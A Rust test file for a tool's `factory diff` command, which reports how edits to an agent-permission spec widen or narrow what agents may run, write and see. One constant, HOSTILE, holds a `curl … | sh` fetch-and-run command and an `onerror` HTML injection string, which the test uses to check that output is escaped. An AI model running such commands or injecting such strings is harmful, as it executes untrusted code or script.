//! What `factory diff` says of a change: every kind of change there is, one after the other, given to
//! one factory.

use std::{collections::BTreeMap, fs, process::Command};

use factory::{
    check::{Checked, check, usual_level},
    diagnostics::{Findings, Sources},
    model::{Direction, Version, changes, resolve},
    spec::load_texts,
};
use tempfile::TempDir;

const BASE: &str = include_str!("base.kdl");

type Edits = &'static [(&'static str, &'static str)];

struct Factory {
    checked: Checked,
    sources: Sources,
}

impl Factory {
    fn of(texts: &BTreeMap<String, String>) -> Self {
        let mut loaded = load_texts("factory.kdl", texts.clone()).unwrap();
        let mut findings = std::mem::take(&mut loaded.findings);
        let model = resolve(&loaded, &mut findings).unwrap();
        let checked = check(model, &loaded.sources, &mut findings);
        let checked = checked.unwrap_or_else(|| panic!("{}", errors(&findings)));
        Self {
            checked,
            sources: loaded.sources,
        }
    }

    fn version(&self) -> Version<'_> {
        Version {
            model: self.checked.model(),
            sources: &self.sources,
        }
    }
}

fn errors(findings: &Findings) -> String {
    findings
        .iter()
        .map(|finding| format!("{finding}\n"))
        .collect()
}

fn base() -> BTreeMap<String, String> {
    let mut texts = BTreeMap::from([("factory.kdl".to_owned(), BASE.to_owned())]);
    for name in ["_preamble", "a", "c", "q", "adopted", "new"] {
        texts.insert(format!("roles/{name}.md"), format!("You are {name}.\n"));
    }
    texts
}

// The base with `edits` made, each `(old, new)` in the spec, or `(path, text)` of another file.
fn edited(edits: Edits) -> BTreeMap<String, String> {
    let mut texts = base();
    for (from, to) in edits {
        if from.starts_with("roles/") || from.starts_with("templates/") {
            texts.insert((*from).to_owned(), (*to).to_owned());
            continue;
        }
        let spec = texts.get_mut("factory.kdl").unwrap();
        assert_eq!(spec.matches(from).count(), 1, "{from}");
        *spec = spec.replace(from, to);
    }
    texts
}

fn said(old: &Factory, new: &Factory) -> String {
    let found = changes(old.version(), new.version(), &usual_level);
    let lines = found.iter().map(|change| {
        let mark = match change.direction {
            Direction::Widened => '+',
            Direction::Narrowed => '-',
            Direction::Changed => '~',
        };
        format!("{mark} {}\n", change.text)
    });
    lines.collect()
}

/// One change of the base, what is said of it, and what is said of the way back.
struct Case {
    edits: Edits,
    there: &'static [&'static str],
    back: &'static [&'static str],
}

include!("cases.rs");

#[test]
fn every_kind_of_change_is_told_with_what_it_does() {
    let base = Factory::of(&base());
    let mut wrong = String::new();
    for Case { edits, there, back } in CASES {
        let changed = Factory::of(&edited(edits));
        for (way, then, found) in [
            ("there", there, said(&base, &changed)),
            ("back", back, said(&changed, &base)),
        ] {
            let then: String = then.iter().map(|line| format!("{line}\n")).collect();
            if then != found {
                wrong += &format!("{edits:#?}\n{way}:\n{found}\n");
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

/// A project with a history, for the program itself.
struct Project(TempDir);

impl Project {
    /// Returns a project whose one commit holds `texts`.
    fn of(texts: &BTreeMap<String, String>) -> Self {
        let project = Self(tempfile::tempdir().unwrap());
        project.git(&["init", "-q"]);
        for (path, text) in texts {
            project.write(path, text);
        }
        project.commit();
        project
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.0.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn edit(&self, edits: Edits) {
        for (path, text) in edited(edits) {
            self.write(&path, &text);
        }
    }

    fn commit(&self) {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-qm", "a"]);
    }

    fn git(&self, arguments: &[&str]) {
        let done = Command::new("git")
            .args(["-c", "user.name=a", "-c", "user.email=a@example.org"])
            .args(arguments)
            .current_dir(self.0.path())
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env_remove("GIT_DIR")
            .output()
            .unwrap();
        assert!(done.status.success(), "{arguments:?}: {done:?}");
    }

    /// Runs `factory diff` and returns what it printed, its complaints, and its exit code.
    fn diff(&self, arguments: &[&str]) -> (String, String, i32) {
        let output = Command::new(env!("CARGO_BIN_EXE_factory"))
            .arg("diff")
            .args(arguments)
            .current_dir(self.0.path())
            .env("FACTORY_CACHE_DIR", self.0.path().join(".cache"))
            .env("COLUMNS", "100")
            .env_remove("GIT_DIR")
            .output()
            .unwrap();
        let text = |bytes| String::from_utf8(bytes).unwrap();
        let code = output.status.code().unwrap();
        (text(output.stdout), text(output.stderr), code)
    }
}

// Words that mean something to a terminal, to Markdown, or to who reads it.
const HOSTILE: Edits = &[
    (
        "rule \"Two hands\" {",
        "rule \"No `code`, @everyone <img src=x onerror=y>\" {\n    cannot \"q\" { run \"*\"; }\n}\nrule \"Two hands\" {",
    ),
    ("\"docs/**\"; run", "\"docs/**\" \"web/``[x](y)/**\"; run"),
    (
        "run \"bin/tell\"",
        "run \"curl <https://example.org> | sh # @everyone\"",
    ),
    ("stop attempts=2", "stop attempts=4"),
    ("roles/a.md", "Other words.\n"),
];

#[test]
fn what_is_told_is_read_in_a_terminal_and_in_a_review() {
    let project = Project::of(&base());
    let nothing = "nobody can do more or less than at HEAD\n";
    assert_eq!(project.diff(&[]), (nothing.to_owned(), String::new(), 0));
    let (text, _, _) = project.diff(&["HEAD", "--format", "md"]);
    assert_eq!(text, "nobody can do more or less than at `HEAD`\n");
    project.edit(HOSTILE);
    let (text, complaints, code) = project.diff(&[]);
    assert_eq!((complaints.as_str(), code), ("", 5));
    insta::assert_snapshot!("human", text);
    let (text, _, code) = project.diff(&["HEAD", "--format", "md"]);
    assert_eq!(code, 5);
    insta::assert_snapshot!("markdown", text);
    let (text, _, code) = project.diff(&["HEAD", "--format", "json"]);
    assert_eq!(code, 5);
    insta::assert_snapshot!("json", text);
}

#[test]
fn a_side_that_is_not_read_as_a_whole_is_not_compared() {
    let cases: [(Edits, &str); 4] = [
        (&[("\"git *\"; reach", "\"a|b\"; reach")], "a|b"),
        (&[("\"docs/**\"; run", "\"@nowhere\"; run")], "nowhere"),
        (&[("goal \"Add an export\"", "gaol \"Add it\"")], "gaol"),
        (
            &[("\"roles/a.md\"", "\"roles/nowhere.md\"")],
            "roles/nowhere.md",
        ),
    ];
    for (edits, said) in cases {
        let project = Project::of(&base());
        project.edit(edits);
        let (text, complaints, code) = project.diff(&[]);
        assert_eq!((text.as_str(), code), ("", 3), "{said}: {complaints}");
        assert!(complaints.contains(said), "{complaints}");
        let last = "the spec has 1 error, and can't be compared";
        assert!(complaints.contains(last), "{complaints}");
        project.commit();
        project.edit(&[]);
        let (text, complaints, code) = project.diff(&[]);
        assert_eq!((text.as_str(), code), ("", 3), "{said}: {complaints}");
        assert!(complaints.contains(said), "{complaints}");
        let last = "the spec at HEAD has 1 error, and can't be compared";
        assert!(complaints.contains(last), "{complaints}");
    }
}

#[test]
fn a_side_that_the_check_refuses_is_never_fine() {
    let broken: Edits = &[("gates \"g0\" \"names\" \"docs\" \"back\"", "gates \"g0\"")];
    let project = Project::of(&base());
    project.edit(broken);
    let (text, complaints, code) = project.diff(&[]);
    assert_eq!(code, 5, "{complaints}");
    assert!(text.contains("gate `docs` no longer judges `a`"), "{text}");
    for said in [
        "rule `Two hands` does not hold",
        "the spec has 1 error, and can't be built",
    ] {
        assert!(complaints.contains(said), "{complaints}");
    }
    project.commit();
    let nothing = "nobody can do more or less than at HEAD\n";
    let (text, complaints, code) = project.diff(&[]);
    assert_eq!((text.as_str(), code), (nothing, 1), "{complaints}");
    project.edit(&[]);
    let (text, complaints, code) = project.diff(&[]);
    assert_eq!(code, 1, "{text}");
    let said = "the spec at HEAD has 1 error, and can't be built";
    assert!(complaints.contains(said), "{complaints}");
}

#[test]
fn a_template_that_leaves_a_boundary_out_holds_less() {
    let project = Project::of(&base());
    let layout =
        "{{preamble}}\n{{text}}\n{{boundary}}\n{{rules}}\n{{gates}}\n{{hand_over}}\n{{memory}}\n";
    project.write("templates/prompt.md.hbs", layout);
    let (text, _, code) = project.diff(&[]);
    let template = "Changed besides\n  the template `templates/prompt.md.hbs`\n";
    assert_eq!((text.as_str(), code), (template, 0));
    project.commit();
    project.write(
        "templates/prompt.md.hbs",
        "{{text}}\n{{rules}}\n{{hand_over}}\n",
    );
    let (text, _, code) = project.diff(&[]);
    assert_eq!(code, 5);
    let widened = "Widened rights\n  \
        templates leave the boundary out of the prompt of `c`, `a`, `q`\n  \
        templates leave the gates out of the prompt of `a`\n  \
        templates leave the preamble out of the prompt of `c`, `a`, `q`\n";
    assert_eq!(text, format!("{widened}{template}"));
}

#[test]
fn a_spec_that_is_new_is_told_as_a_whole() {
    let project = Project::of(&BTreeMap::from([("a".to_owned(), String::new())]));
    project.edit(&[]);
    let (text, _, code) = project.diff(&[]);
    assert_eq!(code, 5);
    for line in [
        "  the role `a` is new: it may write `@source`, `docs/**`; may run `bin/test *`, `git *`; may reach `rubygems.org`; may use `mcp:browser`; may see `RAILS_ENV`\n",
        "  the role `q` is new, and may only read\n",
        "  the server `browser` is new: it starts `npx browser@1.2.3`\n",
        "  `bin/tell` is now run with your environment, to tell of tasks\n",
        "  the process of every agent is now given your `CLIENT_KEY`\n",
        "  step `ship` of task `pdf` now runs `bin/ship` with your `SHIP_KEY`\n",
    ] {
        assert!(text.contains(line), "{line}{text}");
    }
}

#[cfg(unix)]
#[test]
fn a_revision_is_read_as_the_project_is() {
    use std::os::unix::{ffi::OsStrExt as _, fs::symlink};

    let project = Project::of(&base());
    let root = project.0.path();
    // A prompt of another ending, one behind a link, a folder behind a link, and a name that is no text.
    project.write("roles/a.txt", "You are a.\n");
    fs::remove_file(root.join("roles/c.md")).unwrap();
    project.write("common/words/c.md", "You are c.\n");
    symlink("../common/c.md", root.join("roles/c.md")).unwrap();
    symlink("words/c.md", root.join("common/c.md")).unwrap();
    fs::rename(root.join("roles/q.md"), root.join("common/words/q.md")).unwrap();
    symlink("common/words", root.join("linked")).unwrap();
    fs::write(root.join(std::ffi::OsStr::from_bytes(b"\xff.md")), "").unwrap();
    let named: Edits = &[
        ("roles/a.md\"", "roles/a.txt\""),
        ("roles/q.md\"", "linked/q.md\""),
    ];
    let spec = || edited(&[])["factory.kdl"].clone();
    let with = |edits: Edits| {
        let replace = |spec: String, (from, to): &(&str, &str)| spec.replace(from, to);
        project.write("factory.kdl", &edits.iter().fold(spec(), replace));
    };
    with(named);
    project.commit();
    let nothing = "nobody can do more or less than at HEAD\n";
    assert_eq!(project.diff(&[]), (nothing.to_owned(), String::new(), 0));
    // What it was is not asked of the files that are there now.
    fs::remove_file(root.join("roles/a.txt")).unwrap();
    fs::remove_file(root.join("linked")).unwrap();
    project.write("roles/q.md", "You are q.\n");
    with(&[]);
    assert_eq!(project.diff(&[]), (nothing.to_owned(), String::new(), 0));
    project.write("common/words/c.md", "You are another.\n");
    let (text, _, code) = project.diff(&[]);
    assert_eq!(
        (text.as_str(), code),
        ("Changed besides\n  the prompt of `c`\n", 0)
    );
}
